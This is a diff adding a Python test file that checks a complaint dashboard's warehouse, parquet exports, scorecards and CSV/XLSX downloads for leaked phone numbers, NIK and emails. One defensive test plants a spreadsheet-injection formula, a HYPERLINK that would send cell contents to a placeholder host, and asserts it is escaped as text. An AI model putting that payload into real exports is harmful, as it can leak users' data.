@@ -1,0 +1,209 @@
+"""No personal data anywhere a user can read it: every string column of the demo warehouse, the parquet
+export, every scorecard (PDF text and XLSX cells) and every CSV/XLSX download of the dashboard are scanned
+for phone, NIK and email patterns (``pipelines.ingest.pii.ANY_PII_PATTERN``). The demo's raw exports do
+hold such data, so the scans have something to miss. And a formula typed into a complaint title reaches
+the dashboard's CSV and XLSX downloads as text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+from pathlib import Path
+
+import duckdb
+import openpyxl
+import pytest
+import streamlit as st
+from pypdf import PdfReader
+
+from pipelines.ingest.pii import ANY_PII_PATTERN, contains_pii, find_pii
+
+APP = str(Path(__file__).resolve().parents[1] / "dashboard" / "app.py")
+PII = re.compile(ANY_PII_PATTERN)
+PAGES = ("ringkasan", "kinerja_opd", "tren_kategori", "wilayah", "sla_tunggakan", "penilaian", "kualitas_data",
+         "unggah_data", "bukti_dukung", "log_audit", "glosarium")
+
+
+def string_columns(con: duckdb.DuckDBPyConnection) -> list[tuple[str, str, str]]:
+    return [tuple(r) for r in con.execute(
+        "SELECT c.table_name, c.column_name, c.data_type FROM information_schema.columns c "
+        "JOIN information_schema.tables t USING (table_schema, table_name) "
+        "WHERE c.data_type IN ('VARCHAR', 'VARCHAR[]') ORDER BY ALL").fetchall()]
+
+
+def pii_hits(con: duckdb.DuckDBPyConnection, table: str, column: str, dtype: str) -> list[str]:
+    expr = f'"{column}"' if dtype == "VARCHAR" else f"array_to_string(\"{column}\", ' | ')"
+    return [r[0] for r in con.execute(
+        f'SELECT {expr} FROM "{table}" WHERE regexp_matches({expr}, ?) LIMIT 5', [ANY_PII_PATTERN]).fetchall()]
+
+
+def xlsx_strings(blob: bytes) -> list[str]:
+    wb = openpyxl.load_workbook(io.BytesIO(blob))
+    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+def test_the_demo_inputs_do_hold_personal_data(demo_data_dir):
+    """The control: the raw exports have reporters' phones/emails/NIK, so a clean warehouse means removal."""
+    found = set()
+    for f in sorted((demo_data_dir / "raw").rglob("*.csv")):
+        found.update(find_pii(f.read_text(encoding="utf-8-sig", errors="replace")))
+    assert found >= {"phone", "email"}
+
+
+def test_every_string_column_of_the_warehouse(demo_con):
+    cols = string_columns(demo_con)
+    tables = {t for t, _, _ in cols}
+    assert {"complaints", "quarantine", "warnings", "unmatched_names", "complaint_status_history"} <= tables
+    assert len(cols) > 80
+    hits = {f"{t}.{c}": h for t, c, d in cols if (h := pii_hits(demo_con, t, c, d))}
+    assert hits == {}
+
+
+def test_the_scan_finds_what_it_looks_for(demo_data_dir, tmp_path):
+    """The same scan on a copy where one title carries a phone number and one list an email finds both."""
+    db = tmp_path / "copy.duckdb"
+    shutil.copy(demo_data_dir / "curated" / "monev.duckdb", db)
+    con = duckdb.connect(str(db))
+    con.execute("UPDATE complaints SET title = 'hubungi 0812-3456-7890' WHERE complaint_key = "
+                "(SELECT min(complaint_key) FROM complaints)")
+    con.execute("UPDATE unmatched_names SET suggestions = ['a@contoh.go.id'] WHERE raw_value = "
+                "(SELECT min(raw_value) FROM unmatched_names)")
+    hits = {f"{t}.{c}" for t, c, d in string_columns(con) if pii_hits(con, t, c, d)}
+    con.close()
+    assert hits == {"complaints.title", "unmatched_names.suggestions"}
+
+
+def test_the_parquet_export(demo_con, tmp_path):
+    from pipelines.export import export_parquet
+
+    export_parquet(demo_con, tmp_path / "pq")
+    files = sorted((tmp_path / "pq").rglob("*.parquet"))
+    assert files
+    con = duckdb.connect()
+    scanned = 0
+    for f in files:
+        desc = con.execute("DESCRIBE SELECT * FROM read_parquet(?)", [str(f)]).fetchall()
+        for name, dtype, *_ in desc:
+            if dtype in ("VARCHAR", "VARCHAR[]"):
+                expr = f'"{name}"' if dtype == "VARCHAR" else f"array_to_string(\"{name}\", ' | ')"
+                n = con.execute(f"SELECT count(*) FROM read_parquet(?) WHERE regexp_matches({expr}, ?)",
+                                [str(f), ANY_PII_PATTERN]).fetchone()[0]
+                assert n == 0, (f.name, name)
+                scanned += 1
+    assert scanned > 50
+
+
+def test_every_scorecard(demo_con):
+    from pipelines.scorecard import all_departments, generate
+
+    deps = all_departments(demo_con)
+    # every unit's workbook; the PDF (slower: charts) of the city and the two OPD with the most complaints
+    produced = list(generate(demo_con, "2026", departments=deps, city=True, formats=("xlsx",)))
+    busiest = [r[0] for r in demo_con.execute(
+        "SELECT department FROM complaints WHERE department IS NOT NULL GROUP BY ALL ORDER BY count(*) DESC, 1 "
+        "LIMIT 2").fetchall()]
+    produced += list(generate(demo_con, "2026", departments=busiest, city=True, formats=("pdf",)))
+    assert len(produced) == len(deps) + 1 + 3
+    for p, blob in produced:
+        if p.format == "pdf":
+            text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(blob)).pages)
+            assert text.strip() and not contains_pii(text), (p.name, find_pii(text))
+        else:
+            strings = xlsx_strings(blob)
+            assert strings and not [s for s in strings if contains_pii(s)], p.name
+
+
+# ---------------------------------------------------------------- the dashboard's downloads
+
+
+@pytest.fixture()
+def captured(monkeypatch) -> list[tuple[str, bytes]]:
+    """Every st.download_button drawn: (file name, the bytes it would deliver)."""
+    seen: list[tuple[str, bytes]] = []
+    real = st.download_button
+
+    def capture(label, data, file_name=None, *args, **kwargs):
+        blob = data() if callable(data) else data
+        seen.append((file_name, blob if isinstance(blob, bytes) else str(blob).encode()))
+        return real(label, data, file_name, *args, **kwargs)
+
+    monkeypatch.setattr(st, "download_button", capture)
+    return seen
+
+
+def visit_every_page(data_dir: Path, monkeypatch):
+    from streamlit.testing.v1 import AppTest
+
+    monkeypatch.setenv("MONEV_DATA_DIR", str(data_dir))
+    monkeypatch.setenv("MONEV_DASHBOARD_DEMO", "1")
+    at = AppTest.from_file(APP, default_timeout=180)
+    at.query_params.update({"periode": "2024..2026"})  # the whole demo range: every complaint can appear
+    at.run()
+    assert not at.exception, [e.value for e in at.exception]
+    for page in PAGES:
+        at.switch_page(f"app_pages/{page}.py").run()
+        assert not at.exception, (page, [e.value for e in at.exception])
+        if page == "kinerja_opd":  # the drill-down's complaint list
+            at.selectbox(key="opd.drill").set_value(at.selectbox(key="opd.drill").options[0]).run()
+    return at
+
+
+def csv_cells(blob: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(blob.decode("utf-8-sig"))))
+
+
+DECIMAL = re.compile(r"^-?[0-9]+\.[0-9]+(?:e-?[0-9]+)?$")
+
+
+def text_cell(c: str) -> bool:
+    """A cell that is text, not a number written with a decimal point (16 significant digits of a rate,
+    e.g. 78.46153846153845, have the shape of a NIK)."""
+    return not DECIMAL.match(c)
+
+
+def test_every_dashboard_download(demo_data_dir, monkeypatch, captured):
+    visit_every_page(demo_data_dir, monkeypatch)
+    names = [n for n, _ in captured]
+    assert sum(n.endswith(".csv") for n in names) >= 10 and sum(n.endswith(".xlsx") for n in names) >= 10
+    with_titles = 0
+    for name, blob in captured:
+        if name.endswith(".csv"):
+            rows = csv_cells(blob)
+            with_titles += any("Judul" in h for h in rows[0]) if rows else 0
+            bad = [c for r in rows for c in r if text_cell(c) and contains_pii(c)]
+        elif name.endswith(".xlsx"):
+            bad = [s for s in xlsx_strings(blob) if contains_pii(s)]
+        else:
+            continue
+        assert bad == [], (name, bad[:3])
+    assert with_titles >= 1  # complaint lists (with their redacted titles) were among them
+
+
+def test_formula_in_a_complaint_title_stays_text_in_downloads(demo_data_dir, tmp_path, monkeypatch, captured):
+    """A title written as a spreadsheet formula reaches the complaint lists' CSV and XLSX downloads as text."""
+    d = tmp_path / "data"
+    (d / "curated").mkdir(parents=True)
+    shutil.copy(demo_data_dir / "curated" / "monev.duckdb", d / "curated" / "monev.duckdb")
+    formula = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'
+    con = duckdb.connect(str(d / "curated" / "monev.duckdb"))
+    ids = [r[0] for r in con.execute("SELECT source_id FROM complaints WHERE title IS NOT NULL").fetchall()]
+    con.execute("UPDATE complaints SET title = ?", [formula])  # every title, so whichever rows a list shows
+    con.close()
+    visit_every_page(d, monkeypatch)
+    csv_hits = xlsx_hits = 0
+    for name, blob in captured:
+        if name.endswith(".csv"):
+            cells = [c for r in csv_cells(blob) for c in r]
+            assert formula not in cells, name  # never the bare formula
+            csv_hits += cells.count("'" + formula)
+        elif name.endswith(".xlsx"):
+            wb = openpyxl.load_workbook(io.BytesIO(blob))
+            for ws in wb.worksheets:
+                for row in ws.iter_rows():
+                    for c in row:
+                        if isinstance(c.value, str) and "HYPERLINK" in c.value:
+                            assert c.data_type == "s" and c.value == "'" + formula, (name, c.value)
+                            xlsx_hits += 1
+    assert ids and csv_hits > 0 and xlsx_hits > 0
